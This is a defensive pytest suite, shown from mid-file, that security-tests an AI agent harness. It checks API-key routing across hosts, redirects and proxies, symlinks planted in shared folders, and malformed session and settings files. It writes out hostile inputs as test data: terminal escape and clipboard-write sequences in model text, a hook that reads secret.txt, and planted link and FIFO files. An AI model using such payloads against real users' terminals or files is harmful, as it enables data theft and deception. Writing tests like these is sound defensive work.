    with scripted(call("mcp__evil__touch"), "Answer " + SECRET) as srv:
        r = run_yes(box, srv, "--transcript", "t.json", "--mcp", mcp_flag(box, flag, extra=SECRET), umask=0)
    assert_sane(r)
    assert_sane(cli(box, "view", "t.json", umask=0))
    with scripted("Chat " + SECRET) as srv:
        assert_sane(cli(box, "chat", "--yes", "--no-stream", "--base-url", srv.base_url,
                        stdin="hello\n/save s.json\n/quit\n", umask=0))
    if case == "umask-000-trust-and-eval":
        assert_sane(cli(box, "eval", "--models", "scripted:competent", "--tasks", "fact", "--tier", "easy",
                        "--out", "r.json", umask=0, timeout=120))
    written = sorted(str(p) for p in tree(box.home, box.ws) - before | {box.ws / n for n in ("t.json", "t.html", "s.json")}
                     if p.exists() and not p.is_symlink())
    assert any(w.endswith("t.html") for w in written) and any("sessions" in w for w in written), written
    assert not readable_by_nobody(written), readable_by_nobody(written)


def test_a_second_user_s_link_in_a_shared_folder_is_not_written_through(shared_box):
    """`--transcript` in a sticky folder open to all (like /tmp), where `nobody` planted the name as a link to a
    file of root's: the harness (root) must write a file of its own, not through the link, and keep it private."""
    box = shared_box
    shared = box.root / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    pid = os.fork()
    if pid == 0:
        try:
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            os.symlink(box.canary, shared / "t.json")
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    assert (shared / "t.json").is_symlink()
    with scripted("Answer " + SECRET) as srv:
        r = run_yes(box, srv, "--transcript", str(shared / "t.json"))
    assert_sane(r)
    assert box.outside_untouched(), box.outside_changes()
    if not (shared / "t.json").is_symlink():  # written (not refused): then the file must be the harness's, private
        assert not readable_by_nobody([shared / "t.json"]), r


# --- 6. Which key goes to which host -----------------------------------------------------------------

def key_sent(server, key=SECRET):
    return any(key in json.dumps(dict(h)) for h in server.headers)


KEY_ROUTES = {
    "tinyharness-url-wins-over-openai-url": lambda url: {"TINYHARNESS_BASE_URL": url,
                                                         "OPENAI_BASE_URL": "http://127.0.0.1:9/v1"},
    "ollama-host": lambda url: {"OLLAMA_HOST": url.split("//")[1].rsplit("/v1", 1)[0]},
    "ollama-host-with-scheme": lambda url: {"OLLAMA_HOST": url.rsplit("/v1", 1)[0]},
    "tinyharness-url": lambda url: {"TINYHARNESS_BASE_URL": url},
    "empty-openai-url-then-ollama-host": lambda url: {"OPENAI_BASE_URL": "",
                                                      "OLLAMA_HOST": url.split("//")[1].rsplit("/v1", 1)[0]},
}


@pytest.mark.parametrize("route", list(KEY_ROUTES))
@pytest.mark.parametrize("command", ["run", "doctor", "chat"])
def test_openai_api_key_goes_to_no_host_it_was_not_set_for(box, route, command):
    """OPENAI_API_KEY set, the endpoint from TINYHARNESS_BASE_URL or OLLAMA_HOST: no request carries the key, in a
    run, `doctor` (which also must not print it) and a chat."""
    with scripted("Hi.", "Hi.", "Hi.") as srv:
        env = {"OPENAI_API_KEY": SECRET, **KEY_ROUTES[route](srv.base_url)}
        args = {"run": ["run", "--yes", "--no-stream", "Do it."], "doctor": ["doctor", "--timeout", "5"],
                "chat": ["chat", "--yes", "--no-stream"]}[command]
        r = cli(box, *args, env=env, stdin="hello\n/quit\n" if command == "chat" else None)
    assert_sane(r)
    assert srv.headers, r
    assert not key_sent(srv), [dict(h) for h in srv.headers]
    assert SECRET not in r.out + r.err, r


class Redirector:
    """A model server's front that answers every request with a redirect to another host (or port)."""

    def __init__(self, target, code):
        owner = self
        self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def _answer(self):
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                owner.hits.append((self.command, self.path))
                self.send_response(code)
                self.send_header("Location", target + self.path)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_HEAD = _answer

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.mark.parametrize("case", ["run-307-to-localhost", "run-308-other-port", "doctor-302", "tinyharness-key-307"])
def test_a_redirect_from_the_model_server_carries_no_key_to_another_host(box, case):
    """The endpoint the key was set for answers with a redirect to another host: the key must not follow it."""
    with Listener() as ear:
        target = f"http://localhost:{ear.port}" if "localhost" in case else ear.url
        code = {"run-307-to-localhost": 307, "run-308-other-port": 308, "doctor-302": 302}.get(case, 307)
        front = Redirector(target, code)
        try:
            env = ({"TINYHARNESS_API_KEY": SECRET} if case.startswith("tinyharness") else {"OPENAI_API_KEY": SECRET})
            args = (["doctor", "--base-url", f"{front.url}/v1", "--timeout", "5"] if case.startswith("doctor") else
                    ["run", "--yes", "--no-stream", "--base-url", f"{front.url}/v1", "--api", "openai", "Do it."])
            r = cli(box, *args, env=env, timeout=60)
        finally:
            front.close()
        assert_sane(r)
        assert front.hits, r
        assert not any(SECRET in json.dumps(h[2]) for h in ear.hits), [h[:3] for h in ear.hits]


@pytest.mark.parametrize("how", ["image-flag", "view-image-url"])
def test_an_image_host_never_gets_the_model_server_s_key(box, how):
    """TINYHARNESS_API_KEY goes "wherever you point it" - the model endpoint; an image URL the harness fetches
    (--image, or view_image with --allow-image-urls) is another host and must not get it."""
    with Listener() as ear:
        replies = [call("view_image", path=f"{ear.url}/x.png")] if how == "view-image-url" else []
        extra = ["--allow-image-urls"] if how == "view-image-url" else ["--image", f"{ear.url}/x.png"]
        with scripted(*replies) as srv:
            r = run_yes(box, srv, *extra, env={"TINYHARNESS_API_KEY": SECRET, "OPENAI_API_KEY": SECRET})
        assert_sane(r)
        assert ear.hits, r
        assert not any(SECRET in json.dumps(h[2]) for h in ear.hits), [h[2] for h in ear.hits]


def test_no_proxy_keeps_the_run_off_the_proxy(box):
    """HTTP_PROXY names a listener, NO_PROXY the model server's host: every request goes direct, none (and no key)
    to the proxy."""
    with Listener() as proxy, scripted() as srv:
        r = run_yes(box, srv, env={"HTTP_PROXY": proxy.url, "http_proxy": proxy.url, "NO_PROXY": "127.0.0.1",
                                   "TINYHARNESS_API_KEY": SECRET})
        assert_sane(r)
        assert srv.requests and not proxy.hits, (proxy.hits, r)


@pytest.mark.parametrize("how", ["text", "json"])
def test_a_proxy_that_fails_is_named_without_its_password(box, how):
    """A connection error names the proxy; a proxy URL with a password (http://user:PASS@host) must not print
    the password (stderr, the --json result line, the session)."""
    with scripted() as srv:
        proxy = f"http://user:{SECRET}@127.0.0.1:9"
        extra = ["--json"] if how == "json" else []
        r = run_yes(box, srv, *extra, env={"HTTP_PROXY": proxy, "http_proxy": proxy, "ALL_PROXY": proxy})
    assert_sane(r)
    assert r.code == 1, r
    sessions = "".join(p.read_text(errors="replace") for p in box.home.rglob("*.jsonl"))
    assert SECRET not in r.out + r.err + sessions, r


# --- 7. --json and Claude's output with hostile model text ------------------------------------------

HOSTILE = "a\x1b]52;c;eHg=\x07b\x1b[2J \x7f \x85 \x9b \u061c \u200e \u202e \u2066 \u2069 \u2028 \u2029 \ud800 \udfff z"
RAW_FORBIDDEN = ["\x1b", "\x07", "\x7f", "\x85", "\x9b", "\u061c", "\u200e", "\u202e", "\u2066", "\u2069", "\u2028",
                 "\u2029"]


def check_lines(raw: bytes):
    text = raw.decode("utf-8")  # a lone surrogate written as UTF-8 bytes fails here
    bad = [repr(c) for c in RAW_FORBIDDEN if c in text]
    assert not bad, f"raw on stdout: {bad}"
    lines = [json.loads(line) for line in text.splitlines() if line.strip()]
    assert lines, "no JSON line"
    return lines


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


@pytest.mark.parametrize("shape", ["run-json", "stream-json", "output-json", "chat-json"])
def test_json_lines_with_hostile_model_text_are_escaped_and_read_back_the_same(box, shape):
    """The model answers (and names a file) with escape sequences, C1, bidi controls, U+2028 and lone
    surrogates: every stdout line is valid UTF-8 JSON with none of them raw, and the answer reads back the same."""
    args = {"run-json": ["run", "--json"], "stream-json": ["run", "--output-format", "stream-json", "--verbose"],
            "output-json": ["run", "--output-format", "json"], "chat-json": ["chat", "--json"]}[shape]
    replies = [call("write_file", path=f"f{HOSTILE[:12]}.txt".replace("\x00", ""), content=HOSTILE), HOSTILE]
    with ScriptedServer(script=replies + ["Done."]) as srv:
        r = cli(box, *args, "--yes", "--no-stream", "--base-url", srv.base_url,
                *([] if shape == "chat-json" else ["Do it."]), stdin="Do it.\n" if shape == "chat-json" else None,
                raw=True)
    assert not r.hung and b"Traceback" not in r.err + r.out, r
    lines = check_lines(r.out)
    # a lone surrogate from the wire may be replaced (it could not be sent back to a strict server): "?" then
    same = {HOSTILE, HOSTILE.replace("\ud800", "?").replace("\udfff", "?")}
    assert any(s in same for line in lines for s in _strings(line)), "the answer did not read back the same"


@pytest.mark.parametrize("case", ["lone-surrogate-and-escapes", "huge-answer"])
def test_print_mode_answer_with_hostile_text(box, case):
    """`tinyharness -p TASK`: the answer alone on stdout; a lone surrogate or an 8 MB answer is no traceback,
    and an escape sequence from the model does not reach the terminal raw."""
    answer = HOSTILE if case.startswith("lone") else ("x" * 1023 + "\n") * 8192
    with ScriptedServer(script=[answer]) as srv:
        r = cli(box, "-p", "--base-url", srv.base_url, "Do it.", raw=True, timeout=90)
    assert not r.hung and b"Traceback" not in r.err + r.out, r
    assert r.code == 0, r
    assert b"\x1b" not in r.out, r.out[:300]


def test_a_huge_answer_and_output_in_json_lines(box):
    """An 8 MB answer and a command printing 8 MB of controls and invalid UTF-8: --json lines stay valid, no crash."""
    noise = "printf '\\377\\376\\033[31m\\302\\205\\342\\200\\256x%.0s' $(seq 1 200000)"
    with ScriptedServer(script=[sh(noise), "y" * (8 << 20), "Done."]) as srv:
        r = cli(box, "run", "--json", "--yes", "--no-stream", "--base-url", srv.base_url, "Do it.", raw=True,
                timeout=120)
    assert not r.hung and b"Traceback" not in r.err + r.out, r
    lines = check_lines(r.out)
    assert lines[-1]["type"] == "result", lines[-1]


# --- 8. Hostile session files -----------------------------------------------------------------------

def sessions_folder(box):
    return box.home / ".local" / "share" / "tinyharness" / "sessions"


def one_real_session(box):
    with scripted() as srv:
        assert_sane(run_yes(box, srv, task="the real first task"))
    (real,) = sessions_folder(box).glob("*.jsonl")
    return real.stem


def plant_session(box, kind):
    folder = sessions_folder(box)
    sid = f"20200101-000000-{kind[:6].replace('-', 'x')}"
    path = folder / f"{sid}.jsonl"
    secret_events = [{"type": "start", "time": "2020-01-01T00:00:00Z", "folder": str(box.ws), "model": "m"},
                     {"type": "user", "time": "2020-01-01T00:00:00Z", "message": {"role": "user", "content": SECRET}}]
    if kind == "sparse-2g":
        sparse(path, 2 << 30, head=(json.dumps(secret_events[0]) + "\n").encode())
    elif kind == "line-64m":
        with open(path, "wb") as f:
            f.write((json.dumps(secret_events[0]) + "\n").encode())
            f.write(b'{"type": "user", "message": {"role": "user", "content": "' + b"x" * (64 << 20) + b'"}}\n')
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "link-to-outside":
        target = box.out / "planted.jsonl"
        target.write_text("".join(json.dumps(e) + "\n" for e in secret_events))
        box._before = box.snapshot()
        path.symlink_to(target)
    elif kind == "binary":
        path.write_bytes(bytes(range(256)) * 64 + b"\n\xff\xfe\x00{\n")
    elif kind == "deep-nesting":
        path.write_text(json.dumps(secret_events[0]) + "\n" + '{"type": "user", "message": ' + "[" * 200000
                        + "]" * 200000 + "}\n")
    elif kind == "directory":
        path.mkdir()
    return sid


SESSION_KINDS = ["sparse-2g", "line-64m", "fifo", "link-to-outside", "binary", "deep-nesting", "directory"]


@pytest.mark.parametrize("listing", [["sessions"], ["sessions", "--json"], ["sessions", "--all", "--here"]])
def test_sessions_lists_past_every_hostile_file_with_little_memory(box, listing):
    """The sessions folder holds a sparse 2 GiB file, a 64 MiB line, a FIFO, a link out, binary junk, 200,000
    nested brackets and a folder: `sessions` names the bad ones, lists the real one, within 400 MiB."""
    real = one_real_session(box)
    for kind in SESSION_KINDS:
        plant_session(box, kind)
    odd = {"type": "start", "time": "2020-01-01T00:00:00Z", "folder": "/x\x1b]0;pwned\x07\u202eevil", "model": "m\x1b[2J"}
    task = {"type": "user", "time": "2020-01-01T00:00:00Z", "message": {"role": "user", "content": "\x1b[31mred\u202e"}}
    (sessions_folder(box) / "20200102-000000-oddodd.jsonl").write_text(json.dumps(odd) + "\n" + json.dumps(task) + "\n")
    r = cli(box, *listing, memory=400 << 20, timeout=60)
    assert_sane(r)
    assert r.code == 0, r
    assert real in r.out, r
    assert SECRET not in r.out, r
    assert "\x1b" not in r.out and "\u202e" not in r.out, r.out


@pytest.mark.parametrize("kind", SESSION_KINDS)
@pytest.mark.parametrize("command", ["resume", "view"])
def test_resume_and_view_refuse_a_hostile_session_in_one_line(box, kind, command):
    """`run --resume ID` / `view ID` on each hostile file: one line, no traceback or hang, within 400 MiB, and a
    link out of the store is not followed ("only regular files are opened")."""
    one_real_session(box)
    sid = plant_session(box, kind)
    with scripted() as srv:
        args = (["run", "--yes", "--no-stream", "--base-url", srv.base_url, "--resume", sid, "go on"]
                if command == "resume" else ["view", sid])
        r = cli(box, *args, memory=400 << 20, timeout=60)
    assert_sane(r)
    assert not leaked(srv), r
    pages = [p.read_text(errors="replace") for p in box.home.rglob("*.html")]
    assert not any(SECRET in page for page in pages), r
    assert r.code != 0, r
    assert len([line for line in r.err.splitlines() if line.strip()]) <= 3, r


# --- 9. Odd names for every path a user or a settings file gives ------------------------------------

ODD_FLAGS = {
    "transcript-control": lambda url: ["run", "--base-url", url, "--transcript", "t\x01.json", "x"],
    "transcript-not-utf8": lambda url: ["run", "--base-url", url, "--transcript", b"t\xff.json", "x"],
    "transcript-bidi": lambda url: ["run", "--base-url", url, "--transcript", "t\u202egnp.json", "x"],
    "view-output-bidi": lambda url: ["view", "t.json", "-o", "p\u202e.html"],
    "view-output-not-utf8": lambda url: ["view", "t.json", "-o", b"p\xfe.html"],
    "eval-out-bell": lambda url: ["eval", "--models", "scripted:competent", "--tasks", "fact", "--out", "r\x07.json"],
    "sandbox-read-not-utf8": lambda url: ["run", "--base-url", url, "--sandbox-read", b"/nope\xff", "x"],
    "image-not-utf8": lambda url: ["run", "--base-url", url, "--image", b"shot\xff.png", "x"],
    "resume-escape": lambda url: ["run", "--base-url", url, "--resume", "\x1b]0;pwned\x07", "x"],
}


@pytest.mark.parametrize("case", list(ODD_FLAGS))
def test_an_odd_name_in_a_path_flag_is_one_line(box, case):
    """A control, bidi or non-UTF-8 name for a file the harness would create, or an id with an escape sequence:
    a usage error in one line (exit 2; for --resume, not found), no traceback, no such file, nothing raw."""
    (box.ws / "t.json").write_text("[]")
    with scripted() as srv:
        r = cli(box, *ODD_FLAGS[case](srv.base_url), "--yes", "--no-stream", raw=True, timeout=60) if case.startswith(
            ("transcript", "sandbox", "image", "resume")) else cli(box, *ODD_FLAGS[case](srv.base_url), raw=True,
                                                                    timeout=60)
    assert not r.hung and b"Traceback" not in r.out + r.err, r
    assert r.code in (1, 2) if case.startswith("resume") else r.code == 2, r
    assert b"\x1b" not in r.err and b"\x07" not in r.err and b"\xe2\x80\xae" not in r.err, r.err
    assert not srv.requests or case.startswith("resume"), "a model call before the usage error"
    made = [p for p in os.listdir(os.fsencode(box.ws)) if p not in (b"t.json",)]
    assert not [p for p in made if any(b in p for b in (b"\x01", b"\xff", b"\xfe", b"\x07", b"\xe2\x80\xae"))], made


def _user_mcp(box, field):
    entry = {"command": PY, "args": [str(mcp_script(box)), str(box.out / "x")]}
    if field == "args":
        entry["args"].append("a\u0000b")
    elif field == "command":
        entry["command"] = PY + "\u0000"
    elif field == "env":
        entry["env"] = {"A": "x\u0000y"}
    else:
        entry[field] = "a\u0000b"
    path = box.home / ".config" / "tinyharness" / "mcp.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"mcpServers": {"u": entry}}))


NUL_SETTINGS = {
    "user-mcp-cwd": lambda box: _user_mcp(box, "cwd"),
    "user-mcp-command": lambda box: _user_mcp(box, "command"),
    "user-mcp-env-file": lambda box: _user_mcp(box, "envFile"),
    "user-mcp-args": lambda box: _user_mcp(box, "args"),
    "user-mcp-env": lambda box: _user_mcp(box, "env"),
    "user-hook-command": lambda box: user_json(box, ".config/tinyharness/hooks.json",
                                               {"pre_tool_use": [{"command": "true\u0000x", "sandbox": False}]}),
    "claude-deny-rule": lambda box: ws_json(box, ".claude/settings.json", {"permissions": {"deny": ["Read(a\u0000b)"]}}),
    "claude-allow-rule": lambda box: ws_json(box, ".claude/settings.json", {"permissions": {"allow": ["Bash(\u0000)"]}}),
    "user-claude-hook-nul": lambda box: user_json(box, ".claude/settings.json", {"hooks": {"PreToolUse": [
        {"matcher": "\u0000", "hooks": [{"type": "command", "command": "true\u0000"}]}]}}),
    "instructions-not-utf8": lambda box: (box.ws / "INSTRUCTIONS.md").write_bytes(b"rules \xff\xfe\x00 \x1b[2J end\n"),
}


def user_json(box, relative, data):
    path = box.home / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data))


def ws_json(box, relative, data):
    path = box.ws / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data))


@pytest.mark.parametrize("case", list(NUL_SETTINGS))
def test_a_nul_or_odd_bytes_in_a_settings_file_is_one_line_never_a_traceback(box, case):
    """A NUL in a path, command, argument or rule of the user's mcp.json, hooks.json, Claude settings (or an
    INSTRUCTIONS.md of odd bytes): a sentence (exit 2) or the piece refused, never a traceback or a hang."""
    NUL_SETTINGS[case](box)
    with scripted(call("list_dir", path=".")) as srv:
        r = run_yes(box, srv, timeout=60)
    assert_sane(r)
    assert r.code in (0, 2, 3), r


def test_save_with_a_nul_is_one_line_and_the_chat_goes_on(box):
    """`/save a<NUL>b` typed in a chat: one line, and the next message is still answered."""
    with scripted("One.", "Two.") as srv:
        r = cli(box, "chat", "--yes", "--no-stream", "--base-url", srv.base_url,
                stdin="hello\n/save a\x00b.json\nagain\n/quit\n")
    assert_sane(r)
    assert len(srv.requests) == 2, r


@pytest.mark.parametrize("then", ["json-run", "view-session", "subagent"])
def test_a_workspace_file_name_that_is_not_utf8(box, then):
    """The model makes files named with bytes that are not UTF-8, controls and bidi, then lists them (and a subagent
    reports them as written): no traceback, the session is written, --json lines stay valid, `view` works."""
    make = "touch \"$(printf 'a\\377\\376b')\" \"$(printf 'c\\033[2Jd')\" \"$(printf 'e\\342\\200\\256f')\""
    replies = [sh(make), call("list_dir", path=".")]
    if then == "subagent":
        replies = [call("task", description="Make the files."), *replies, "Child done."]
    with scripted(*replies) as srv:
        r = cli(box, "run", "--json", "--yes", "--no-stream", "--base-url", srv.base_url, "Do it.", raw=True)
    assert not r.hung and b"Traceback" not in r.out + r.err, r
    lines = check_lines(r.out)
    assert lines[-1]["type"] == "result" and lines[-1]["exit_code"] == 0, lines[-1]
    assert len(os.listdir(os.fsencode(box.ws))) >= 3
    if then == "view-session":
        v = cli(box, "view", lines[-1]["session_id"])
        assert_sane(v)
        assert v.code == 0, v


# --- 10. More of the same families: hooks under a Read deny, credentials in URLs, the MCP log's cap, --json's last line

@pytest.mark.parametrize("event", ["post_tool_use", "user_prompt_submit"])
def test_a_read_deny_reaches_a_sandboxed_hook_whose_output_the_model_reads(box, event):
    """A trusted hook in the sandbox (the default) prints `cat secret.txt`; a post_tool_use hook's output is added to
    the result, a user_prompt_submit hook's to the task: under `--deny Read(secret.txt)` the secret must read empty
    for it, as for commands (the README excepts only "sandbox": false hooks and MCP servers)."""
    (box.ws / "secret.txt").write_text(f"ws {SECRET}\n")
    (box.ws / ".tinyharness").mkdir()
    (box.ws / ".tinyharness" / "hooks.json").write_text(json.dumps({event: [{"command": "cat secret.txt; echo hook-ran"}]}))
    with scripted() as srv:
        assert_sane(run_yes(box, srv, tty="y\n", task="Trust it."))
    with scripted(call("list_dir", path=".")) as srv:
        r = run_yes(box, srv, "--deny", "Read(secret.txt)")
    assert_sane(r)
    assert "hook-ran" in json.dumps(srv.requests), ("the hook's output never reached the model: proves nothing", r)
    assert not leaked(srv), r


@pytest.mark.parametrize("command", ["run-json", "doctor", "connection-error"])
def test_a_password_in_the_base_url_is_never_printed_or_saved(box, command):
    """`--base-url http://user:PASS@host/v1`: the password may go to that host, but is printed nowhere (stdout,
    stderr, the --json lines, doctor's endpoint line, a connection error) and saved in no session."""
    with scripted("Hi.", "Hi.", "Hi.") as srv:
        host = srv.base_url.split("//", 1)[1]
        url = f"http://user:{SECRET}@{host if command != 'connection-error' else '127.0.0.1:9/v1'}"
        args = {"run-json": ["run", "--json", "--yes", "--no-stream", "--base-url", url, "Do it."],
                "doctor": ["doctor", "--base-url", url, "--timeout", "5"],
                "connection-error": ["run", "--yes", "--no-stream", "--base-url", url, "Do it."]}[command]
        r = cli(box, *args)
    assert_sane(r)
    saved = "".join(p.read_text(errors="replace") for p in box.home.rglob("*") if p.is_file())
    assert SECRET not in r.out + r.err, r
    assert SECRET not in saved, "the password is in a file the harness saved"


def test_an_mcp_server_s_stderr_flood_stays_within_the_log_cap(box):
    """A server writes 20 MB to stderr before it answers: its log (`mcp-logs/`, "1 MiB at most") stays small, the run
    neither hangs nor loses the server."""
    flag = box.out / "mcp-ran"
    with scripted(call("mcp__evil__touch")) as srv:
        r = run_yes(box, srv, "--mcp", mcp_flag(box, flag, extra="FLOOD"), timeout=60)
    assert_sane(r)
    assert flag.exists(), ("the server's tool never ran", r)
    logs = [p for p in box.home.rglob("*") if "mcp-logs" in str(p) and p.is_file()]
    assert logs, "no MCP log"
    assert sum(p.stat().st_size for p in logs) <= 2 << 20, [(str(p), p.stat().st_size) for p in logs]


@pytest.mark.parametrize("case", ["unreachable-server", "argparse-error", "untrusted-config", "bad-resume"])
def test_run_json_s_result_is_the_last_line_on_every_exit(box, case):
    """`run --json`: "the result, which is always the last line, on every exit (0, 1, 2 - argparse's errors and an
    untrusted config too -, 3, ...)"; stdout holds nothing but JSON lines."""
    with scripted() as srv:
        args = ["run", "--json", "--no-stream", "--base-url", srv.base_url, "Do it."]
        if case == "unreachable-server":
            args[4] = "http://127.0.0.1:9/v1"
        elif case == "argparse-error":
            args[1:1] = ["--max-turns", "many"]
        elif case == "untrusted-config":
            (box.ws / ".mcp.json").write_text(json.dumps({"mcpServers": {"x": {"command": "true"}}}))
        else:
            args[1:1] = ["--resume", "no-such-session"]
        r = cli(box, *args)
    assert_sane(r)
    lines = [json.loads(line) for line in r.out.splitlines() if line.strip()]
    assert lines and lines[-1]["type"] == "result", r
    assert lines[-1]["exit_code"] == r.code and r.code != 0 or case == "untrusted-config", (lines[-1], r)
